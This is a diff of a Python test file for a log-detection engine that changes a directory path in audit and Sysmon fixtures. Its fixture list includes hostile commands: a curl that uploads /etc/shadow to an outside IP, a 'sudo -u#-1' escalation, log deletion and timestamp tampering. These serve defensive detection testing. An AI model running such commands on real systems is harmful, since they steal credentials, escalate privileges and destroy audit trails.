@@ -33,7 +33,7 @@ COMMANDS = (
     ("/usr/bin/esxcli", "esxcli vm process list"),
     ("/usr/bin/sudo", "sudo -u#-1 id"),
     ("/usr/bin/curl", "curl -F file=@/etc/shadow http://192.0.2.80"),
-    ("/usr/bin/touch", "touch -t 201501010000 /home/søren/a"),
+    ("/usr/bin/touch", "touch -t 201501010000 /srv/søren/a"),
     ("/usr/bin/rm", "rm -f /var/log/syslog"),
 )
 
@@ -52,7 +52,7 @@ def audit_records(image: str, command: str, serial: int = 1) -> list[str]:
         f"items=2 ppid=11 pid=12 auid=1004 uid=0 gid=0 euid=0 tty=pts1 ses=12 "
         f'comm="{posixpath.basename(image)}" exe="{image}" key="exec"',
         f"type=EXECVE {stamp} argc={len(words)} {arguments}",
-        f"type=CWD {stamp} cwd={value('/home/søren')}",
+        f"type=CWD {stamp} cwd={value('/srv/søren')}",
         f'type=PATH {stamp} item=0 name="{image}" inode=1 nametype=NORMAL',
         f"type=PROCTITLE {stamp} proctitle={command.replace(' ', chr(0)).encode().hex().upper()}",
     ]
@@ -62,7 +62,7 @@ def sysmon_line(image: str, command: str) -> str:
     data = {
         "Image": image,
         "CommandLine": command,
-        "CurrentDirectory": "/home/søren",
+        "CurrentDirectory": "/srv/søren",
         "User": "root",
         "ProcessId": "12",
         "ParentProcessId": "11",
@@ -225,9 +225,9 @@ def test_a_created_file_is_found_by_its_whole_path(
     load: Callable[..., Engine], rule: Callable[..., dict[str, object]], audit: Audit
 ) -> None:
     source = {"product": "linux", "category": "file_event"}
-    wanted = {"TargetFilename": "/home/søren/.bashrc"}
+    wanted = {"TargetFilename": "/srv/søren/.bashrc"}
     engine = load(rule({"selection": wanted}, logsource=source), mode="ecs")
-    home = f"type=CWD {STAMP.format(1)} cwd={value('/home/søren')}"
+    home = f"type=CWD {STAMP.format(1)} cwd={value('/srv/søren')}"
     lines = [syscall(257), home, path("./.bashrc", "CREATE")]
 
     assert fired(engine, audit(lines)) == {"a rule under test"}
